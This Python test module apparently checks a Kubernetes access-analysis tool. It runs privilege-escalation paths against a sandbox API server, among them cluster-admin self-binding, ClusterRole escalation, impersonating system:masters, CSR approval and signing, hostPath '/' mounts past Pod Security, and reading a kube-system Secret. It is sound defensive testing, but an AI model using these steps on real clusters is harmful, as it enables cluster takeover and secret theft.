"""Each way walked to its end on a real API server, by a user who holds that way's rules alone."""

import asyncio
from base64 import b64encode
from collections.abc import Awaitable, Callable
from contextlib import AsyncExitStack
from datetime import timedelta
from typing import Any

import msgspec
import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from shipkeeper.kube.config import ConnectionOptions
from shipkeeper.kube.connection import Connection, connect
from shipkeeper.kube.errors import ApiError, ForbiddenError, UnauthorizedError
from shipkeeper.sandbox.sandbox import Sandbox
from tests.access.ways import CLIENT_SIGNER, NAMESPACE, STRICT

_RBAC = "/apis/rbac.authorization.k8s.io/v1"
_CSRS = "/apis/certificates.k8s.io/v1/certificatesigningrequests"
_ADMISSION = "/apis/admissionregistration.k8s.io/v1"
_HERE = f"/api/v1/namespaces/{NAMESPACE}"
_APPS = f"/apis/apps/v1/namespaces/{NAMESPACE}/deployments"
_STRATEGIC = "application/strategic-merge-patch+json"
_MERGE = "application/merge-patch+json"


class Robber:
    """One user, and the administrator who looks on."""

    def __init__(
        self, sandbox: Sandbox, user: str, own: Connection, admin: Connection, stack: AsyncExitStack
    ) -> None:
        self.sandbox = sandbox
        self.user = user
        self.own = own
        self.admin = admin
        self._stack = stack

    async def send(self, method: str, path: str, body: object = None, **more: Any) -> Any:
        """A request of the user's."""
        answer = await self.own.send(method, path, body=body, **more)
        return msgspec.json.decode(answer) if answer[:1] == b"{" else answer

    async def patch(self, path: str, body: object, content_type: str = _MERGE) -> Any:
        return await self.send("PATCH", path, body, content_type=content_type)

    async def as_other(self, user: str, *groups: str) -> Connection:
        """The user in another's name."""
        options = ConnectionOptions(
            kubeconfig=str(self.sandbox.issue_kubeconfig(self.user)),
            impersonate_user=user,
            impersonate_groups=groups,
        )
        return await self._stack.enter_async_context(connect(options))

    async def sees_prize(self) -> None:
        """Whether the user can read the Secret in kube-system that only administrators can."""
        found = await self.send("GET", "/api/v1/namespaces/kube-system/secrets/prize")
        assert found["data"]


def pod(name: str, **spec: Any) -> dict[str, Any]:
    container = {"name": "main", "image": "registry.k8s.io/pause:3.9", **spec.pop("container", {})}
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": name},
        "spec": {"containers": [container], **spec},
    }


def deployment(name: str, account: str) -> dict[str, Any]:
    template = {
        "metadata": {"labels": {"app": name}},
        "spec": {**pod(name)["spec"], "serviceAccountName": account},
    }
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": name},
        "spec": {
            "replicas": 0,
            "selector": {"matchLabels": {"app": name}},
            "template": template,
        },
    }


async def list_secrets(robber: Robber) -> None:
    found = await robber.send("GET", "/api/v1/secrets")
    assert any(each["metadata"]["name"] == "prize" and each["data"] for each in found["items"])


async def watch_secrets(robber: Robber) -> None:
    path = "/api/v1/namespaces/kube-system/secrets"
    query = {"watch": "1", "resourceVersion": "0"}
    async with robber.own.stream(path, query, inactivity=timedelta(seconds=30)) as chunks:
        seen = b""
        async for chunk in chunks:
            seen += chunk
            if b'"prize"' in seen:
                return
    raise AssertionError("the watch did not show the Secret")


async def create_pods(robber: Robber) -> None:
    made = await robber.send("POST", f"{_HERE}/pods", pod("mine", serviceAccountName="mighty"))
    volumes = made["spec"]["volumes"]
    assert any("projected" in each for each in volumes), "no token is mounted"


async def create_deployments(robber: Robber) -> None:
    made = await robber.send("POST", _APPS, deployment("mine", "mighty"))
    assert made["spec"]["template"]["spec"]["serviceAccountName"] == "mighty"


async def patch_deployments(robber: Robber) -> None:
    change = {"spec": {"template": {"spec": {"serviceAccountName": "mighty"}}}}
    made = await robber.patch(f"{_APPS}/app", change)
    assert made["spec"]["template"]["spec"]["serviceAccountName"] == "mighty"


async def patch_pods(robber: Robber) -> None:
    change = {"spec": {"containers": [{"name": "main", "image": "example.com/mine"}]}}
    made = await robber.patch(f"{_HERE}/pods/target", change, _STRATEGIC)
    assert made["spec"]["containers"][0]["image"] == "example.com/mine"


async def debug(robber: Robber) -> None:
    container = {"name": "mine", "image": "example.com/mine"}
    change = {"spec": {"ephemeralContainers": [container]}}
    made = await robber.patch(f"{_HERE}/pods/target/ephemeralcontainers", change, _STRATEGIC)
    assert made["spec"]["ephemeralContainers"][0]["name"] == "mine"


async def is_let_through(robber: Robber, method: str, path: str) -> None:
    """There is no kubelet behind it: let through is whoever gets as far as looking for one."""
    try:
        await robber.send(method, path, timeout=timedelta(seconds=20))
    except (ForbiddenError, UnauthorizedError):
        raise
    except ApiError:
        return


async def enter(robber: Robber) -> None:
    await is_let_through(robber, "POST", f"{_HERE}/pods/target/exec?command=id&stdout=1")


async def node_proxy(robber: Robber) -> None:
    await is_let_through(robber, "GET", "/api/v1/nodes/ways-node/proxy/pods")


async def tokens(robber: Robber) -> None:
    body: dict[str, Any] = {
        "apiVersion": "authentication.k8s.io/v1",
        "kind": "TokenRequest",
        "spec": {},
    }
    made = await robber.send("POST", f"{_HERE}/serviceaccounts/mighty/token", body)
    review = {
        "apiVersion": "authentication.k8s.io/v1",
        "kind": "TokenReview",
        "spec": {"token": made["status"]["token"]},
    }
    answer = await robber.admin.send(
        "POST", "/apis/authentication.k8s.io/v1/tokenreviews", body=review
    )
    status = msgspec.json.decode(answer)["status"]
    assert status["user"]["username"] == f"system:serviceaccount:{NAMESPACE}:mighty"


async def plant(robber: Robber) -> None:
    annotations = {"kubernetes.io/service-account.name": "mighty"}
    secret = {
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {"name": "planted", "annotations": annotations},
        "type": "kubernetes.io/service-account-token",
    }
    await robber.send("POST", f"{_HERE}/secrets", secret)
    async with asyncio.timeout(60):
        while (
            not (await robber.send("GET", f"{_HERE}/secrets/planted")).get("data", {}).get("token")
        ):
            await asyncio.sleep(0.1)


async def bind(robber: Robber) -> None:
    group = "rbac.authorization.k8s.io"
    binding = {
        "apiVersion": f"{group}/v1",
        "kind": "ClusterRoleBinding",
        "metadata": {"name": f"{robber.user}-gain"},
        "roleRef": {"apiGroup": group, "kind": "ClusterRole", "name": "cluster-admin"},
        "subjects": [{"apiGroup": group, "kind": "User", "name": robber.user}],
    }
    await robber.send("POST", f"{_RBAC}/clusterrolebindings", binding)
    await _soon(robber.sees_prize)


async def escalate(robber: Robber) -> None:
    everything = {"verbs": ["*"], "apiGroups": ["*"], "resources": ["*"]}
    await robber.patch(f"{_RBAC}/clusterroles/{robber.user}", {"rules": [everything]})
    await _soon(robber.sees_prize)


async def _soon(attempt: Callable[[], Awaitable[None]]) -> None:
    """The server's authorizer learns of it a moment later."""
    async with asyncio.timeout(30):
        while True:
            try:
                return await attempt()
            except ForbiddenError:
                await asyncio.sleep(0.05)


async def impersonate(robber: Robber) -> None:
    other = await robber.as_other("somebody", "system:masters")
    await other.send("GET", "/api/v1/namespaces/kube-system/secrets/prize")


async def impersonate_account(robber: Robber) -> None:
    other = await robber.as_other(f"system:serviceaccount:{NAMESPACE}:mighty")
    await other.send("GET", "/api/v1/namespaces/kube-system/secrets/prize")


async def constrained(robber: Robber) -> None:
    other = await robber.as_other("boss")
    await other.send("GET", "/api/v1/namespaces/kube-system/secrets")


async def approve(robber: Robber) -> None:
    name = f"{robber.user}-csr"
    await robber.send("POST", _CSRS, csr(name, "boss"))
    condition = {"type": "Approved", "status": "True", "reason": "Mine", "message": ""}
    body = {**csr(name, "boss"), "status": {"conditions": [condition]}}
    made = await robber.send("PUT", f"{_CSRS}/{name}/approval", body)
    assert made["status"]["conditions"][0]["type"] == "Approved"


async def sign(robber: Robber) -> None:
    name = f"{robber.user}-csr"
    await robber.admin.send("POST", _CSRS, body=csr(name, "somebody"))
    certificate = b64encode(robber.sandbox.ca.read_bytes()).decode()
    made = await robber.patch(f"{_CSRS}/{name}/status", {"status": {"certificate": certificate}})
    assert made["status"]["certificate"]


def csr(name: str, user: str) -> dict[str, Any]:
    key = ec.generate_private_key(ec.SECP256R1())
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, user)])
    signed = (
        x509.CertificateSigningRequestBuilder().subject_name(subject).sign(key, hashes.SHA256())
    )
    request = b64encode(signed.public_bytes(serialization.Encoding.PEM)).decode()
    return {
        "apiVersion": "certificates.k8s.io/v1",
        "kind": "CertificateSigningRequest",
        "metadata": {"name": name},
        "spec": {
            "request": request,
            "signerName": CLIENT_SIGNER,
            "usages": ["digital signature", "key encipherment", "client auth"],
        },
    }


def webhook(kind: str, name: str) -> dict[str, Any]:
    """One that means no object at all: it is enough that it may be set."""
    each = {
        "name": "robbery.example.com",
        "clientConfig": {"url": "https://127.0.0.1:1/"},
        "rules": [
            {
                "apiGroups": ["robbery.example.com"],
                "apiVersions": ["v1"],
                "operations": ["CREATE"],
                "resources": ["nothing"],
            }
        ],
        "failurePolicy": "Ignore",
        "sideEffects": "None",
        "admissionReviewVersions": ["v1"],
    }
    return {
        "apiVersion": "admissionregistration.k8s.io/v1",
        "kind": kind,
        "metadata": {"name": name},
        "webhooks": [each],
    }


async def mutate(robber: Robber) -> None:
    body = webhook("MutatingWebhookConfiguration", robber.user)
    made = await robber.send("POST", f"{_ADMISSION}/mutatingwebhookconfigurations", body)
    assert made["webhooks"]


async def watchful(robber: Robber) -> None:
    body = webhook("ValidatingWebhookConfiguration", robber.user)
    made = await robber.send("POST", f"{_ADMISSION}/validatingwebhookconfigurations", body)
    assert made["webhooks"]


async def volume(robber: Robber) -> None:
    size = {"storage": "1Gi"}
    spec: dict[str, Any] = {
        "capacity": size,
        "accessModes": ["ReadWriteOnce"],
        "hostPath": {"path": "/"},
        "storageClassName": "",
    }
    disk = {"apiVersion": "v1", "kind": "PersistentVolume", "metadata": {"name": robber.user}}
    await robber.send("POST", "/api/v1/persistentvolumes", {**disk, "spec": spec})
    claim = {
        "apiVersion": "v1",
        "kind": "PersistentVolumeClaim",
        "metadata": {"name": "disk"},
        "spec": {
            "accessModes": ["ReadWriteOnce"],
            "resources": {"requests": size},
            "volumeName": robber.user,
            "storageClassName": "",
        },
    }
    strict = f"/api/v1/namespaces/{STRICT}"
    await robber.send("POST", f"{strict}/persistentvolumeclaims", claim)
    mount = {"name": "disk", "persistentVolumeClaim": {"claimName": "disk"}}
    secure = {
        "allowPrivilegeEscalation": False,
        "runAsNonRoot": True,
        "runAsUser": 1000,
        "capabilities": {"drop": ["ALL"]},
        "seccompProfile": {"type": "RuntimeDefault"},
    }
    # Pod Security, which forbids host paths here, lets it pass.
    body = pod("disk", volumes=[mount], container={"securityContext": secure})
    await robber.send("POST", f"{strict}/pods", body)


async def relabel(robber: Robber) -> None:
    strict = f"/api/v1/namespaces/{STRICT}"
    root = pod("root", container={"securityContext": {"privileged": True}})
    # As it stands, Pod Security does not take it.
    with pytest.raises(ForbiddenError, match="PodSecurity"):
        await robber.send("POST", f"{strict}/pods", root)
    level = {"pod-security.kubernetes.io/enforce": "privileged"}
    await robber.patch(strict, {"metadata": {"labels": level}})
    await _soon(lambda: robber.send("POST", f"{strict}/pods", root))


async def steal(robber: Robber) -> None:
    made = await robber.patch("/api/v1/nodes/ways-node", {"spec": {"unschedulable": True}})
    assert made["spec"]["unschedulable"] is True
    eviction = {
        "apiVersion": "policy/v1",
        "kind": "Eviction",
        "metadata": {"name": "target", "namespace": NAMESPACE},
    }
    await robber.send("POST", f"{_HERE}/pods/target/eviction", eviction)


ROBBERIES: dict[str, Callable[[Robber], Awaitable[None]]] = {
    "list-secrets": list_secrets,
    "watch-secrets": watch_secrets,
    "create-pods": create_pods,
    "create-deployments": create_deployments,
    "patch-deployments": patch_deployments,
    "patch-pods": patch_pods,
    "exec": enter,
    "debug": debug,
    "node-proxy": node_proxy,
    "tokens": tokens,
    "one-token": tokens,
    "plant": plant,
    "bind": bind,
    "bind-one": bind,
    "escalate": escalate,
    "impersonate": impersonate,
    "impersonate-account": impersonate_account,
    "constrained": constrained,
    "approve": approve,
    "sign": sign,
    "mutate": mutate,
    "watchful": watchful,
    "volume": volume,
    "relabel": relabel,
    "steal": steal,
}
